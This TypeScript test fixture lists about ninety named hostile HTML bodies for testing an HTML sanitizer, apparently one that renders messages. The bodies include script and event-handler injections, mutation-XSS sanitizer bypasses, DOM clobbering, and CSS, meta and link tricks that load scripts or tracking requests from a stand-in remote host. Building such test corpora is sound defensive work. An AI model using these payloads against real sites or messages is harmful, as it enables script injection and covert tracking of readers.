/**
 * Messages that try to run scripts or to learn that they were read: known attacks, each of which calls `__xss()` in
 * some window or requests something from `remote`. The mutation attacks (mXSS) are ones that defeated sanitizers.
 */
export const hostileBodies = (remote: string): Record<string, string> => ({
  'a script': '<script>__xss()</script>',
  'a script of elsewhere': `<script src="${remote}/a.js"></script>`,
  'a script in capitals with a slash': '<SCRIPT/x>__xss()</SCRIPT>',
  'a module script': `<script type="module">import "${remote}/m.js"; __xss()</script>`,
  'an image that fails': '<img src=x onerror=__xss()>',
  'an image that fails, without spaces': '<img/src="x"/onerror="__xss()">',
  'an image that fails, with a line break': '<img src=x onerror\n=\n__xss()>',
  'an image that loads': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=__xss()>',
  'a handler behind a null': '<img src=x one\0rror=__xss()>',
  'a parent that is called': '<img src=x onerror="parent.__xss();top.__xss()">',
  'an svg that loads': '<svg onload=__xss()></svg>',
  'an svg with a script': '<svg><script>__xss()</script></svg>',
  'an svg with an animation': '<svg><animate onbegin=__xss() attributeName=x dur=1s></svg>',
  'an svg that sets a link': '<svg><a xlink:href="javascript:__xss()"><text y=20>svg link</text></a></svg>',
  'an svg that animates a link':
    '<svg><a><animate attributeName=href values=javascript:__xss() /><text y=20>animated</text></a></svg>',
  'an svg that uses another': `<svg><use href="${remote}/u.svg#x"></use></svg>`,
  'an svg with foreign content': '<svg><foreignObject><img src=x onerror=__xss()></foreignObject></svg>',
  'an svg image of elsewhere': `<svg><image href="${remote}/i.png" width=10 height=10></image></svg>`,
  'an svg style of elsewhere': `<svg><style>@import "${remote}/s.css";</style></svg>`,
  'an svg filter of elsewhere': `<svg><filter id=f><feImage href="${remote}/f.png"/></filter></svg>`,
  'mathematics with a link': '<math><mtext href="javascript:__xss()">maths</mtext></math>',
  'mathematics that opens html':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__xss()&gt;">',
  'mathematics that closes html':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss()></style></mglyph></form>',
  'mathematics within svg': '<svg></p><style><a id="</style><img src=1 onerror=__xss()>"></svg>',
  'a comment in svg style': '<svg><style><!--</style><img src=x onerror=__xss()>--></style></svg>',
  'a noscript': '<noscript><p title="</noscript><img src=x onerror=__xss()>"></noscript>',
  'a template':
    '<template><img src=x onerror=__xss()></template><template shadowrootmode=open><script>__xss()</script></template>',
  'an xmp': '<xmp><p title="</xmp><img src=x onerror=__xss()>"></xmp>',
  'a title': '<title><p title="</title><img src=x onerror=__xss()>"></title>',
  'a text area': '<textarea><p title="</textarea><img src=x onerror=__xss()>"></textarea>',
  'an iframe of text': '<iframe><p title="</iframe><img src=x onerror=__xss()>"></iframe>',
  'an iframe with a document': '<iframe srcdoc="<script>parent.__xss();top.__xss()</script>"></iframe>',
  'an iframe with a script': '<iframe src="javascript:parent.__xss()"></iframe>',
  'an iframe of elsewhere': `<iframe src="${remote}/frame"></iframe>`,
  'a deep nest': `${'<div><table><tr><td>'.repeat(300)}<svg><style><img src=x onerror=__xss()></style></svg>`,
  'a nest of forms': `${'<form><div>'.repeat(100)}<math><mi><form><style></math><img src=x onerror=__xss()>`,
  'a table that moves':
    '<table><tbody><tr><a href=x><svg><p><style><a title="</style><img src=x onerror=__xss()>"></table>',
  'a select that moves':
    '<select><option><style></option></select><img src=x onerror=__xss()></style></option></select>',
  'a comment that ends early': '<!--><img src=x onerror=__xss()>-->',
  'a comment that ends oddly': '<!--!> <img src=x onerror=__xss()> -->',
  'a conditional comment':
    '<!--[if gte mso 9]><img src=x onerror=__xss()><![endif]--><![if !mso]><img src=x onerror=__xss()><![endif]>',
  'character data': '<![CDATA[<img src=x onerror=__xss()>]]><svg><![CDATA[><img src=x onerror=__xss()>]]></svg>',
  'a processing instruction': '<?xml version="1.0"?><?x <img src=x onerror=__xss()>?>',
  'a link that runs': '<a href="javascript:__xss()">run</a>',
  'a link that runs, in disguise':
    '<a href="jav&#x09;ascript:__xss()">tab</a><a href="&#1;javascript:__xss()">control</a><a href=" java\nscript:__xss()">line</a>',
  'a link that runs, in visual basic':
    '<a href="vbscript:msgbox(1)">vb</a><a href="data:text/html,<script>__xss()</script>">data</a>',
  'a link with handlers': '<a href="#" onclick=__xss() onmouseover=__xss() onfocus=__xss() autofocus>handlers</a>',
  'a link that is pinged': `<a href="#" ping="${remote}/ping">pinged</a>`,
  'a link to the top': `<a href="${remote}/top" target=_top>to the top</a><a href="${remote}/blank" target=_blank>to a tab</a>`,
  'a map':
    '<map name=m><area shape=rect coords=0,0,99,99 href="javascript:__xss()"></map><img usemap=#m src=x width=99 height=99>',
  'a form': `<form action="${remote}/form" id=f><input name=a value=b autofocus onfocus=__xss()><button>Sign in</button></form><button form=f formaction="${remote}/other">Send</button>`,
  'a form that runs':
    '<form action="javascript:__xss()"><input type=image src=x onerror=__xss()><input type=submit></form>',
  'an input that is an image': `<input type=image src="${remote}/input.png">`,
  'names that stand for others':
    '<form id=getElementById></form><img name=body><img name=head><img id=documentElement><form id=parent name=parent><input name=postMessage></form><a id=tell></a><a id=DOMPurify></a>',
  'a form that hides its children':
    '<form><input name=attributes><input name=childNodes><input name=removeChild><img src=x onerror=__xss()></form>',
  'a base': `<base href="${remote}/"><img src="based.png"><a href="based">based</a>`,
  'a refresh': `<meta http-equiv=refresh content="0;url=${remote}/refresh">`,
  'a refresh that runs': '<meta http-equiv=refresh content="0;url=javascript:__xss()">',
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><script>__xss()</script>`,
  'a charset of its own': '<meta charset=utf-7><p>+ADw-script+AD4-__xss()+ADw-/script+AD4-</p>',
  'a style sheet of elsewhere': `<link rel=stylesheet href="${remote}/l.css">`,
  'hints to load': `<link rel=preload as=image href="${remote}/pre"><link rel=prefetch href="${remote}/fetch"><link rel=dns-prefetch href="${remote}"><link rel=preconnect href="${remote}"><link rel=modulepreload href="${remote}/m.js"><link rel=icon href="${remote}/icon"><link rel=manifest href="${remote}/m">`,
  'rules to speculate': `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${remote}/spec"]}]}</script>`,
  'an import in styles': `<style>@import url(${remote}/i.css); @import "${remote}/j.css";</style>`,
  'an import in styles, escaped': `<style>@\\69mport "${remote}/k.css"; @im\\port '${remote}/l.css';</style>`,
  'a font': `<style>@font-face{font-family:x;src:url(${remote}/font)} p{font-family:x}</style><p>font</p>`,
  'a background in styles': `<style>p{background:url(${remote}/bg)} p::before{content:url(${remote}/content)} ul{list-style:url(${remote}/list)}</style><p>background</p><ul><li>x</ul>`,
  'a background in styles, escaped': `<style>p{background:\\75\\72\\6c(${remote}/esc)}</style><p style="background:u\\72l(${remote}/esc2)">escaped</p>`,
  'a background by a variable': `<style>:root{--x:url(${remote}/var)} p{background:var(--x)}</style><p style="--y:\\75rl(${remote}/var2);background:var(--y)">variable</p>`,
  'a set of images': `<p style='background:image-set("${remote}/set" 1x)'>set</p><p style="background:-webkit-image-set(url(${remote}/wset) 1x)">set</p>`,
  'a background in an attribute': `<body background="${remote}/body"><table background="${remote}/table"><tr><td background="${remote}/cell">cell</table>`,
  'a cursor, a filter, a mask': `<p style="cursor:url(${remote}/cursor),auto;filter:url(${remote}/filter#f);mask:url(${remote}/mask);border-image:url(${remote}/border) 1;shape-outside:url(${remote}/shape);clip-path:url(${remote}/clip#c)">style</p>`,
  'styles that spy': `<style>a[href^=h]{background:url(${remote}/spy)} @media (min-width:1px){p{background:url(${remote}/media)}} @supports (color:red){p{background:url(${remote}/supports)}} @layer x{p{background:url(${remote}/layer)}} @container (width>1px){p{background:url(${remote}/container)}} p{& b{background:url(${remote}/nest)}}</style><p><b>spy</b></p>`,
  'styles that end early':
    '<style></style><img src=x onerror=__xss()></style><style>/*</style><img src=x onerror=__xss()>*/</style>',
  'an expression': '<p style="width:expression(__xss());behavior:url(x.htc);-moz-binding:url(x.xml#x)">expression</p>',
  'an image of elsewhere': `<img src="${remote}/img"><img src="//${new URL(remote).host}/relative"><img src="${remote.replace('http:', 'https:')}/tls">`,
  'a choice of images': `<img srcset="${remote}/srcset 1x, ${remote}/srcset2 2x"><picture><source srcset="${remote}/source"><img src="${remote}/picture"></picture>`,
  'images that are spelled oddly': `<img src="\t${remote}/tab"><img src="ht\ntp://${new URL(remote).host}/line"><image src="${remote}/image"><img lowsrc="${remote}/low" dynsrc="${remote}/dyn" longdesc="${remote}/long">`,
  'sound and moving pictures': `<video poster="${remote}/poster" src="${remote}/video" autoplay onerror=__xss()><source src="${remote}/vs" onerror=__xss()><track src="${remote}/track" default></video><audio src="${remote}/audio" autoplay></audio><bgsound src="${remote}/bg">`,
  'things within': `<object data="${remote}/object"><param name=x></object><embed src="${remote}/embed"><applet code="${remote}/applet"></applet><object data="javascript:__xss()"></object>`,
  'a frame set': `<frameset onload=__xss()><frame src="${remote}/frameset"></frameset>`,
  'handlers of a body':
    '<body onload=__xss() onpageshow=__xss() onresize=__xss() onhashchange=__xss() onmessage=__xss()>body</body>',
  'handlers of what moves':
    '<style>@keyframes k{from{color:red}}</style><p style="animation:k 1s" onanimationstart=__xss() ontransitionend=__xss()>moves</p><marquee onstart=__xss()>m</marquee>',
  'handlers of what opens':
    '<details open ontoggle=__xss()><summary>s</summary></details><dialog open onclose=__xss()>d</dialog><div popover id=p onbeforetoggle=__xss()>p</div><button popovertarget=p>b</button>',
  'handlers of what is edited':
    '<div contenteditable autofocus onfocus=__xss() onbeforeinput=__xss()>edit</div><input onblur=__xss() autofocus>',
  'an element of its own': '<x-y onclick=__xss() tabindex=1 onfocus=__xss()>own</x-y><p is=x-y>is</p>',
  'data of the address':
    '<object data="data:text/html,<script>parent.__xss()</script>"></object><embed src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'parent.__xss()\'/>">',
  'an image that is a drawing': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${remote}/inner'/><script>__xss()</script></svg>">`,
  entities: '&lt;img src=x onerror=__xss()&gt; &#60;script&#62;__xss()&#60;/script&#62;',
  direction: '\u202Etxet eht snrut sihT \u2066<img src=x onerror=__xss()>',
  'a tag that does not end': '<img src=x onerror=__xss() ',
  'a plaintext': '<plaintext><img src=x onerror=__xss()>',
  'an attribute that does not end': `<a href="${remote}/<img src=x onerror=__xss()>`,
  'a fixed cover': '<div style="position:fixed;inset:0;z-index:99999;background:red">cover</div>',
})
